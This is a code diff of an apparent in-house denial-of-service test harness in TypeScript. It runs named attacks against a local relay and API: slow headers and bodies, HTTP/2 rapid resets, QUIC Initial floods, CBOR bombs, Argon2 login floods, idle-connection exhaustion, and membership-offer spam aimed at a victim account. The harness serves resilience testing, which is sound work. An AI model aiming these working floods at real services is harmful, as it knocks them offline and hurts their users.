@@ -6,12 +6,12 @@ import { request } from 'node:https'
 import { setTimeout as pause } from 'node:timers/promises'
 import { connect, type ConnectionOptions, type TLSSocket } from 'node:tls'
 import { CELL_BYTES, cutEnvelope, fromHex } from '@static/protocol'
-import { Agent, makeKey } from '@static/testkit/agent'
+import { Agent, makeKey, Refused } from '@static/testkit/agent'
 import { grpcWire, quicWire } from '@static/testkit/agent/wires'
-import type { Target } from './target.ts'
+import type { Counts, Target } from './target.ts'
 
-/** Runs until the process is killed; calls `hit` whenever it has reached the servers. */
-type Attack = (target: Target, hit: () => void) => Promise<void>
+/** Runs until the process is killed, and counts. */
+type Attack = (target: Target, counts: Counts) => Promise<void>
 
 const HOST = '127.0.0.1'
 const BYTE_MS = 500
@@ -36,12 +36,12 @@ function dial(port: number, { ca }: Target, localAddress: string, alpn: string):
 }
 
 /** Sends a beginning, then a byte now and then, until the server closes. */
-async function trickle(target: Target, hit: () => void, head: string, byte: string): Promise<void> {
+async function trickle(target: Target, counts: Counts, head: string, byte: string): Promise<void> {
   await many(target, async (address) => {
     const socket = await dial(target.apiPort, target, address, 'http/1.1')
     const closed = new Promise<void>((resolve) => socket.once('close', () => resolve()))
     socket.write(head)
-    hit()
+    counts.hits++
     const timer = setInterval(() => socket.write(byte), BYTE_MS)
     await closed
     clearInterval(timer)
@@ -84,20 +84,41 @@ function post(target: Target, path: string, localAddress: string, body: object, 
   })
 }
 
-/** An agent of the attacker's account. */
+let lastToken = ''
+
+/** An agent of the attacker's account, with the token of another one while there are no more. */
 async function member(target: Target, localAddress: string): Promise<Agent> {
-  const { token } = JSON.parse(await post(target, '/v1/tokens', localAddress, {}, target.apiKey)) as { token: string }
-  return await Agent.connect(grpcWire({ port: target.grpcPort, ca: target.ca, localAddress }), { jwt: token })
+  const answer = JSON.parse(await post(target, '/v1/tokens', localAddress, {}, target.apiKey)) as { token?: string }
+  lastToken = answer.token ?? lastToken
+  return await Agent.connect(grpcWire({ port: target.grpcPort, ca: target.ca, localAddress }), { jwt: lastToken })
 }
+
+/** Waits for an answer of the relay, whatever it is. Rejects when the stream has ended. */
+function bold<Answer>(answer: Promise<Answer>): Promise<Answer | undefined> {
+  return answer.catch((error: unknown) => {
+    if (!(error instanceof Refused)) throw error
+    return undefined
+  })
+}
+
+/**
+ * What lets a connection stay as long as possible: one request to the API, the beginning of HTTP/2 (with empty
+ * settings) to the relay.
+ */
+const API_IDLER = ['apiPort', 'http/1.1', 'GET /health/live HTTP/1.1\r\nHost: localhost\r\n\r\n'] as const
+const RELAY_IDLER = ['grpcPort', 'h2', 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0'] as const
+
+/** Handshakes of idle connections at once: if there are many, a slow attacker finishes none of them in time. */
+const DIALLERS = 32
 
 /** By name. */
 export const ATTACKS: Readonly<Record<string, Attack>> = {
-  'slow headers': (target, hit) => trickle(target, hit, 'GET / HTTP/1.1\r\nHost: localhost\r\n', 'x: y\r\n'),
-  'slow bodies': (target, hit) => {
+  'slow headers': (target, counts) => trickle(target, counts, 'GET / HTTP/1.1\r\nHost: localhost\r\n', 'x: y\r\n'),
+  'slow bodies': (target, counts) => {
     const head = 'Host: localhost\r\nContent-Type: application/json\r\nContent-Length: 5000\r\n\r\n{'
-    return trickle(target, hit, `POST /v1/sessions HTTP/1.1\r\n${head}`, ' ')
+    return trickle(target, counts, `POST /v1/sessions HTTP/1.1\r\n${head}`, ' ')
   },
-  'HTTP/2 resets': (target, hit) =>
+  'HTTP/2 resets': (target, counts) =>
     many(target, async (localAddress) => {
       const socket = await dial(target.grpcPort, target, localAddress, 'h2')
       const session = connectHttp2(`https://localhost:${target.grpcPort}`, { createConnection: () => socket })
@@ -113,62 +134,85 @@ export const ATTACKS: Readonly<Record<string, Attack>> = {
           stream.on('error', () => {})
           stream.close(8)
         }
-        hit()
+        counts.hits++
         await pause(1)
       }
     }),
-  'QUIC Initials': (target, hit) =>
+  'QUIC Initials': (target, counts) =>
     many(target, async (address) => {
       const socket = createSocket('udp4')
       socket.on('error', () => {})
       await new Promise<void>((resolve) => socket.bind(0, address, resolve))
       for (;;) {
         for (let at = 0; at < 20; at++) socket.send(initial(), target.quicPort, HOST)
-        hit()
+        counts.hits++
         await pause(1)
       }
     }),
-  'CBOR bombs': (target, hit) =>
+  'CBOR bombs': (target, counts) =>
     many(target, async (_address, at) => {
       const agent = await quicWire({ port: target.quicPort, ca: target.ca }).open({ data: () => {}, closed: () => {} })
       for (let round = 0; round < 20; round++)
         agent.write(cutEnvelope(BOMBS[(at + round) % BOMBS.length] ?? new Uint8Array(CELL_BYTES)))
       await pause(20)
       agent.end()
-      hit()
+      counts.hits++
     }),
-  'Argon2 floods': (target, hit) =>
+  'Argon2 floods': (target, counts) =>
     many(target, async (address) => {
       const email = `${randomBytes(4).toString('hex')}@example.com`
       await post(target, '/v1/sessions', address, { email, password: randomBytes(8).toString('hex') })
-      hit()
+      counts.hits++
     }),
-  'idle connections': async (target, hit) => {
-    const ports = [target.apiPort, target.grpcPort]
-    await many(target, async (address, at) => {
-      // Not all handshakes in one moment.
-      await pause(at % 2000)
-      const socket = await dial(ports[at % 2] ?? 0, target, address, at % 2 === 0 ? 'http/1.1' : 'h2')
-      hit()
-      await new Promise<void>((resolve) => socket.once('close', () => resolve()).on('error', () => {}))
+  'idle connections': (target, counts) => {
+    let open = 0
+    return many({ ...target, size: DIALLERS }, async (_address, at) => {
+      if (open >= target.size) return pause(50)
+      open++
+      const { addresses } = target
+      const address = addresses[counts.tried++ % addresses.length] ?? HOST
+      const [port, alpn, least] = at % 2 === 0 ? API_IDLER : RELAY_IDLER
+      const socket = await dial(target[port], target, address, alpn).catch((error: unknown) => {
+        open--
+        throw error
+      })
+      socket
+        .on('error', () => {})
+        .once('close', () => {
+          open--
+          counts.held--
+        })
+      // The answer is not read.
+      socket.write(least)
+      counts.hits++
+      counts.held++
     })
   },
-  offers: (target, hit) =>
+  sessions: (target, counts) =>
     many(target, async (address) => {
       const agent = await member(target, address)
-      try {
-        for (let round = 0; round < 50; round++) {
-          const channelId = randomBytes(16)
-          const name = `attack/${randomBytes(6).toString('hex')}/x`
-          await agent.request('createChannel', { channelId, name, welcome: new Uint8Array(100) })
-          await agent.request('addMember', { channelId, agentId: fromHex(target.victim) })
-          hit()
-        }
-      } finally {
-        agent.close()
+      agent.close()
+      counts.hits++
+      await agent.ended
+    }),
+  offers: (target, counts) =>
+    many(target, async (address) => {
+      const agent = await member(target, address)
+      const victim = fromHex(target.victim)
+      const channelId = new Uint8Array(randomBytes(16))
+      const name = `attack/${randomBytes(6).toString('hex')}/x`
+      await agent.request('createChannel', { channelId, name, welcome: new Uint8Array(100) })
+      // Offered and removed in turns, as fast as the relay answers, also with refusals.
+      for (let slot = 0n; ;) {
+        const isIn = slot % 2n === 1n
+        if (!isIn) await bold(agent.request('addMember', { channelId, agentId: victim }))
+        const change = isIn ? { removes: [victim] } : { adds: [victim] }
+        if (!(await bold(agent.commit(channelId, slot, change)))) continue
+        slot++
+        if (!isIn) counts.hits++
       }
     }),
-  joins: (target, hit) =>
+  joins: (target, counts) =>
     many(target, async (localAddress) => {
       const wire = grpcWire({ port: target.grpcPort, ca: target.ca, localAddress })
       const agent = await Agent.connect(wire, { key: makeKey() })
@@ -177,7 +221,7 @@ export const ATTACKS: Readonly<Record<string, Attack>> = {
           const request = { inviteId: randomBytes(16), box: randomBytes(400), proof: randomBytes(32) }
           // Refused: nobody has registered that invite.
           await agent.request('requestJoin', request).catch(() => {})
-          hit()
+          counts.hits++
         }
       } finally {
         agent.close()
